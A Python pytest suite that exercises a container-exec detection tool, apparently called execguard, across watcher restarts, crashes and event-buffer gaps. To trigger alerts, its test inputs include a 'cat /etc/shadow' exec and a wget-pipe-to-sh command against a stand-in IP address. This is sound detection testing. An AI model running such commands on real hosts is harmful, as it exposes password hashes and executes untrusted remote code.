"""watch --docker with a state file on a real daemon: an exec made while watch was down (SIGTERM or kill -9)
is alerted once after the restart, from the Docker position kept in the state file, and nothing doubles;
a gap longer than the daemon's event buffer is warned about and counted, not passed over in silence."""

from __future__ import annotations

import http.client
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from execguard.testing.dockerd import IMAGE, Dockerd, free_port

pytestmark = pytest.mark.docker
EXE = Path(sys.executable).parent / "execguard"
WAIT = 30.0  # bound of every wait


class Watch:
    """`execguard watch --docker URL --state FILE -o jsonl --out FILE --metrics` as a process of its own."""

    def __init__(self, url: str, tmp: Path) -> None:
        self.url, self.tmp = url, tmp
        self.out, self.state = tmp / "alerts.jsonl", tmp / "state.json"
        self.runs = 0
        self.proc: subprocess.Popen[bytes] | None = None
        self.port = 0

    def start(self) -> None:
        self.runs += 1
        self.port = free_port()
        self.err = self.tmp / f"stderr-{self.runs}.txt"
        cmd = [str(EXE), "watch", "--docker", self.url, "--state", str(self.state), "-o", "jsonl", "--out", str(self.out),
               "--metrics", f"127.0.0.1:{self.port}", "--no-tls"]  # fmt: skip
        with self.err.open("wb") as err:
            self.proc = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=err)

    def stop(self, sig: signal.Signals = signal.SIGTERM) -> int:
        assert self.proc is not None
        self.proc.send_signal(sig)
        code = self.proc.wait(timeout=WAIT)
        self.proc = None
        return code

    def ids(self) -> list[str]:
        return [orjson.loads(raw)["event_id"] for raw in self.out.read_bytes().splitlines()] if self.out.exists() else []

    def containers_created(self) -> list[str]:
        """The container of every create alert."""
        alerts = [orjson.loads(raw) for raw in self.out.read_bytes().splitlines()] if self.out.exists() else []
        return [a["target"]["container_id"] for a in alerts if a["action"] == "create"]

    def position(self) -> dict[str, Any]:
        try:
            pos = orjson.loads(self.state.read_bytes())["inputs"].get(f"docker {self.url}")
        except (OSError, orjson.JSONDecodeError, KeyError):
            return {}
        return pos if isinstance(pos, dict) else {}

    def metric(self, name: str) -> float:
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)
        try:
            conn.request("GET", "/metrics")
            body = conn.getresponse().read().decode()
        finally:
            conn.close()
        return sum(float(line.rsplit(" ", 1)[1]) for line in body.splitlines() if line.startswith(name + "{"))


def wait_until(check: Callable[[], bool], what: str) -> None:
    deadline = time.monotonic() + WAIT
    while time.monotonic() < deadline:
        if check():
            return
        time.sleep(0.05)
    raise AssertionError(f"not within {WAIT:.0f}s: {what}")


def _exec(d: Dockerd, container: Any, cmd: list[str], start: bool = True) -> str:
    api = d.client().api
    exec_id: str = api.exec_create(container.id, cmd)["Id"]
    if start:
        api.exec_start(exec_id)
    return exec_id


def _live_exec(d: Dockerd, c: Any, w: Watch, label: str) -> str:
    """An exec the running watch alerts on; made again until it does (the stream needs a moment to open)."""
    found: list[str] = []

    def seen() -> bool:
        exec_id = _exec(d, c, ["sh", "-c", f"cat /etc/shadow # {label}"])
        time.sleep(0.3)
        found.append(exec_id)
        return exec_id in w.ids()

    wait_until(seen, f"watch alerts on the {label} exec")
    last = found[-1]
    # both of its events (exec_create, exec_start) are in the state file: a stop now splits no exec in two
    wait_until(lambda: any(k[0].startswith("exec_start") and k[2] == last for k in w.position().get("at", [])), "the position")
    return last


@pytest.fixture
def container(docker_daemon: Dockerd) -> Iterator[Any]:
    c = docker_daemon.client().containers.run(IMAGE, ["sleep", "300"], detach=True, network_mode="none", name=f"r-{uuid.uuid4().hex[:8]}")
    try:
        yield c
    finally:
        c.remove(force=True)


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL], ids=["sigterm", "kill-9"])
def test_exec_while_watch_is_down_alerts_once_after_restart(
    docker_daemon: Dockerd, container: Any, tmp_path: Path, sig: signal.Signals
) -> None:
    w = Watch(docker_daemon.url, tmp_path)
    w.start()
    try:
        before = _live_exec(docker_daemon, container, w, "before")
        code = w.stop(sig)
        assert code == (0 if sig == signal.SIGTERM else -signal.SIGKILL)
        # watch is down: only the daemon's event buffer has these
        down = [_exec(docker_daemon, container, ["sh", "-c", f"id # down {i}"]) for i in range(3)]
        w.start()
        wait_until(lambda: all(e in w.ids() for e in down), "the execs made while watch was down are alerted")
        after = _live_exec(docker_daemon, container, w, "after")
        assert w.metric("execguard_input_gap_seconds_total") == 0
        assert w.stop() == 0
    finally:
        if w.proc is not None:
            w.stop(signal.SIGKILL)
    ids = w.ids()
    for exec_id in [before, *down, after]:
        assert ids.count(exec_id) == 1, exec_id
    assert len(ids) == len(set(ids)), "an exec alerted twice"
    assert "may be missed" not in w.err.read_text()
    assert b"/etc/shadow" not in w.state.read_bytes()  # the position keeps event keys, never a command line


def test_gap_older_than_the_daemon_buffer_is_warned_and_counted(docker_daemon: Dockerd, container: Any, tmp_path: Path) -> None:
    w = Watch(docker_daemon.url, tmp_path)
    w.start()
    try:
        _live_exec(docker_daemon, container, w, "before")
        assert w.stop() == 0
        # more events than the daemon keeps (256): the first of these are gone from its buffer on restart
        for i in range(300):
            _exec(docker_daemon, container, ["sh", "-c", f"echo {i}"], start=False)
        last_down = _exec(docker_daemon, container, ["sh", "-c", "id # last while down"])
        w.start()
        wait_until(lambda: last_down in w.ids(), "the exec still in the daemon's buffer is alerted")
        wait_until(lambda: w.metric("execguard_input_gap_seconds_total") > 0, "the gap is counted")
        assert w.stop() == 0
    finally:
        if w.proc is not None:
            w.stop(signal.SIGKILL)
    err = w.err.read_text()
    assert "no longer holds the events after" in err and "may be missed" in err
    ids = w.ids()
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL], ids=["sigterm", "kill-9"])
def test_a_restart_between_create_and_start_alerts_once(
    docker_daemon: Dockerd, container: Any, tmp_path: Path, sig: signal.Signals
) -> None:
    """exec_create before the stop, exec_start after it (and a container's create and start): one alert each, as without the stop."""
    api = docker_daemon.client().api
    w = Watch(docker_daemon.url, tmp_path)
    w.start()
    created = ""
    try:
        _live_exec(docker_daemon, container, w, "before")
        exec_id = _exec(docker_daemon, container, ["sh", "-c", "id # started while watch is down"], start=False)
        cmd = ["sh", "-c", "sleep 300; wget -q -O - http://203.0.113.7/x.sh | sh"]  # a create some rule alerts on
        name = f"s-{uuid.uuid4().hex[:8]}"
        created = api.create_container(IMAGE, cmd, name=name, host_config=api.create_host_config(network_mode="none"))["Id"]
        wait_until(lambda: exec_id in w.position().get("execs", []) and created in w.position().get("creates", []), "both open")
        wait_until(lambda: exec_id in w.ids() and created in w.containers_created(), "both alerted")
        w.stop(sig)
        api.exec_start(exec_id)
        api.start(created)
        w.start()
        _live_exec(docker_daemon, container, w, "after")
        assert w.stop() == 0
    finally:
        if w.proc is not None:
            w.stop(signal.SIGKILL)
        if created:
            api.remove_container(created, force=True)
    assert w.ids().count(exec_id) == 1
    assert w.containers_created().count(created) == 1
